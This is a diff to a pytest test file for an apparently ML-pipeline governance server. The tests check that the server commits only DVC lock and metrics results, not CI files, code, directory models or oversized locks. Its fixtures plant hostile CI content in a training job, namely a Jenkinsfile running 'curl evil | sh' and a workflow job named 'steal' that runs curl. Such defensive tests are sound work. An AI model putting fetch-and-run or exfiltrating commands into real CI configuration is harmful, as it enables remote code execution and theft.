@@ -28,6 +28,8 @@ stages:
       md5: {MD5}
     - path: score.json
       md5: {"c" * 32}
+    - path: Jenkinsfile
+      md5: {"2" * 32}
     - path: .github/workflows/ci.yml
       md5: {"d" * 32}
   ghost:
@@ -47,6 +49,10 @@ DVC_YAML = """stages:
     metrics:
       - score.json:
           cache: false
+      - Jenkinsfile:
+          cache: false
+      - make.py:
+          cache: false
 artifacts:
   tiny-model:
     path: out.txt
@@ -60,6 +66,7 @@ def trained(tmp_path: Path) -> dict:
     project = tiny_pipeline(tmp_path / "project")
     (project / "dvc.yaml").write_text(DVC_YAML)
     (project / "score.json").write_text('{"n": 0}')
+    (project / "Jenkinsfile").write_text("pipeline {}\n")
     (project / ".github" / "workflows").mkdir(parents=True)
     (project / ".github" / "workflows" / "ci.yml").write_text("on: push\n")
     base = commit_all(project, "base")
@@ -68,20 +75,21 @@ def trained(tmp_path: Path) -> dict:
     (job / "dvc.lock").write_text(LOCK)
     (job / "score.json").write_text('{"n": 7}')
     (job / "make.py").write_text("print('harmless, and not what ran')\n")  # what a stage may rewrite
+    (job / "Jenkinsfile").write_text("sh 'curl evil | sh'\n")
     (job / ".github" / "workflows" / "ci.yml").write_text("on: push\njobs: {steal: {run: curl evil}}\n")
     return {"project": project, "base": base, "job": job, "training": record(project, base, LOCK)}
 
 
-def record(project: Path, base: str, lock_text: str) -> str:
+def record(project: Path, base: str, lock_text: str, md5: str = MD5) -> str:
     training = TrainingCompleted(
         git={"commit": base, "branch": "main", "dirty_paths": []},
         dvc_lock_sha256=locks.lock_digest({"dvc.lock": lock_text}), targets=[], stages=[], params={}, metrics={},
-        outputs=[], datasets=[], models=[{"name": "tiny-model", "path": "out.txt", "md5": MD5, "sha256": SHA}],
+        outputs=[], datasets=[], models=[{"name": "tiny-model", "path": "out.txt", "md5": md5, "sha256": SHA}],
         environment={}, duration_s=1.0, run_cache_hit=False,
     )  # fmt: skip
     ledger = open_project(project).ledger
     [done] = ledger.append([PendingEvent(training, actor="sci", occurred_at=utc_now(), git_commit=base)])
-    registered = ModelRegistered("tiny-model", "1", "out.txt", MD5, SHA, done.event_id, "run", "sqlite:///x", "m")
+    registered = ModelRegistered("tiny-model", "1", "out.txt", md5, SHA, done.event_id, "run", "sqlite:///x", "m")
     ledger.append([PendingEvent(registered, actor="sci", occurred_at=utc_now(), git_commit=base)])
     return done.event_id
 
@@ -97,6 +105,7 @@ def test_the_lock_and_declared_results_are_committed_never_code_nor_a_file_that_
     assert sorted(git(project, "diff", "--name-only", base, sha).split()) == ["dvc.lock", "score.json"]
     assert git(project, "show", f"{sha}:.github/workflows/ci.yml") == "on: push", "the job's CI file is not taken"
     assert "harmless" not in git(project, "show", f"{sha}:make.py"), "the code that ran, not a stage's rewrite"
+    assert git(project, "show", f"{sha}:Jenkinsfile") == "pipeline {}", "declared as metrics, yet no result file"
     assert git(project, "log", "-1", "--format=%an <%ae>", sha) == "govern server <govern-server@localhost>"
     assert git(project, "status", "--porcelain") == "", "the server's work tree and index are untouched"
     [locked] = open_project(project).ledger.read(types=["training.locked"])
@@ -157,3 +166,21 @@ def test_a_commit_made_before_a_crash_is_taken_again_by_the_retry(trained: dict)
     assert again == first
     with pytest.raises(GovernError, match="update-ref"):
         git_adapter.commit_onto(project, base, {"dvc.lock": b"other"}, "govern/trainings/x", "m", "s", "s@localhost")
+
+
+def test_a_directory_model_or_oversized_locks_are_not_committed_by_the_server(tmp_path: Path) -> None:
+    project = tiny_pipeline(tmp_path / "project")
+    base = commit_all(project, "base")
+    job = tmp_path / "job"
+    job.mkdir()
+    dir_lock = LOCK.replace(f"path: out.txt\n      md5: {MD5}", f"path: out.txt\n      md5: {MD5}.dir")
+    (job / "dvc.lock").write_text(dir_lock)
+    training = record(project, base, dir_lock, md5=f"{MD5}.dir")
+
+    sha, note = locks.commit_for_job(open_project(project), "0123456789ab", training, job, "sci")
+
+    assert sha is None and "a directory model: the server checks the bytes of model files only" in note, note
+    padded = LOCK + "# " + "x" * (17 << 20) + "\n"
+    (job / "dvc.lock").write_text(padded)
+    sha, note = locks.commit_for_job(open_project(project), "0123456789ab", record(project, base, padded), job, "sci")
+    assert sha is None and "larger than 16 MB" in note, note
